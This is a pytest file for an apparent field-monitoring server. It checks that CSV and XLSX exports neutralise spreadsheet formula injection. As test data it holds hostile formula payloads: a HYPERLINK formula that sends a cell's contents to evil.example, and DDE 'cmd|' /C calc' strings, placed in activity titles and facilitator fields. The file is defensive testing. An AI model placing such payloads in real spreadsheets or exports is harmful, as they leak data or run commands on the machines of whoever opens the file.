"""Spreadsheet formula injection (OWASP "CSV injection"): text a field expert or an officer typed
(an activity's title, its facilitators, a project's name) never becomes a live formula in an
export, whatever writes the file: the API, the dashboard or ``pilotmon pull``. Numbers stay
numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from server.activities.service import write_activity
from server.exports.tabular import csv_chunks, xlsx_file
from tests.factories import World, activity_data, detach, make_project

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open report")'
HOSTILE = (
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
)
HARMLESS = ("Seed potato storage", "a=b", "", "é=1")


def _read_csv(chunks: Any) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_starting_like_a_formula_are_written_as_text() -> None:
    rows = [[text, 1] for text in HOSTILE + HARMLESS] + [[None, -3], [None, -2.5]]
    read = _read_csv(csv_chunks(["text", "number"], rows))
    assert read[0] == ["text", "number"]
    for (text, _), (cell, number) in zip(rows, read[1:], strict=False):
        if text in HOSTILE:
            assert cell == "'" + text, cell
        elif text in HARMLESS:
            assert cell == text
        assert number in ("1", "-3", "-2.5")
    assert read[-2] == ["", "-3"] and read[-1] == ["", "-2.5"]  # negative numbers stay numbers


def test_xlsx_cells_starting_like_a_formula_are_text_not_formulas() -> None:
    rows = [[text, 7] for text in HOSTILE + HARMLESS] + [["negative", -3], ["fraction", -2.5]]
    workbook = load_workbook(xlsx_file("Sheet", ["text", "number"], rows))
    sheet = workbook.active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    for (text, number), (cell, number_cell) in zip(rows, cells, strict=True):
        if text in HOSTILE:
            # Kept exactly as typed, stored as a string, and marked so that Excel does not turn
            # it into a formula when someone edits the cell either.
            assert cell.value == text and cell.data_type == "s", (text, cell.data_type)
            assert cell.quotePrefix
        assert number_cell.value == number and number_cell.data_type == "n"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.fixture
def hostile(session: Session) -> World:
    world = World(session)
    project = make_project(session, country="LSO", name="=EVIL()+1", code="LSO-CPP-999")
    session.add(project)
    write_activity(
        session,
        data=activity_data(
            world.project_lso,
            title=HYPERLINK,
            facilitators=["=cmd|' /C calc'!A0", "@SUM(1)"],
            notes="+1 (555) 0100",
        ),
        existing=None,
        source="api",
        author_id=None,
        status="approved",
    )
    write_activity(
        session,
        data=activity_data(project, title="-1", start_date="2025-04-01", end_date="2025-04-01"),
        existing=None,
        source="api",
        author_id=None,
        status="approved",
    )
    session.commit()
    detach(session)
    return world


def _no_formula(sheet: Any) -> None:
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, f"live formulas at {formulas}"


def test_activity_exports_keep_hostile_titles_and_facilitators_as_text(
    client: TestClient, hostile: World
) -> None:
    response = client.get("/api/v1/exports/activities.xlsx", headers=hostile.auth("hq"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    _no_formula(sheet)
    header = [c.value for c in sheet[1]]
    found = {
        r["title"]: r
        for r in (
            dict(zip(header, (c.value for c in row), strict=True))
            for row in sheet.iter_rows(min_row=2)
        )
    }
    assert found[HYPERLINK]["facilitators"] == "=cmd|' /C calc'!A0; @SUM(1)"
    assert found[HYPERLINK]["notes"] == "+1 (555) 0100"
    assert found[HYPERLINK]["participants"] == 20  # numbers stay numbers
    assert isinstance(found["-1"]["start_date"], date)
    assert found["-1"]["project"] == "LSO-CPP-999"

    text = client.get("/api/v1/exports/activities.csv", headers=hostile.auth("hq")).text
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    by_title = {r["title"]: r for r in rows}
    assert "'" + HYPERLINK in by_title
    assert by_title["'" + HYPERLINK]["facilitators"] == "'=cmd|' /C calc'!A0; @SUM(1)"
    assert by_title["'" + HYPERLINK]["notes"] == "'+1 (555) 0100"
    assert "'-1" in by_title
    assert by_title["'" + HYPERLINK]["participants"] == "20"


def test_the_dashboards_activity_export_keeps_them_as_text(
    client: TestClient, hostile: World
) -> None:
    client.cookies.set("pilotmon_session", hostile.tokens["officer_lso"])
    response = client.get("/exports/download", params={"format": "activities-xlsx"})
    assert response.status_code == 200, response.text[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    _no_formula(sheet)
    assert HYPERLINK in [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    text = client.get("/exports/download", params={"format": "activities-csv"}).text
    client.cookies.clear()
    assert "'" + HYPERLINK.replace('"', '""') in text
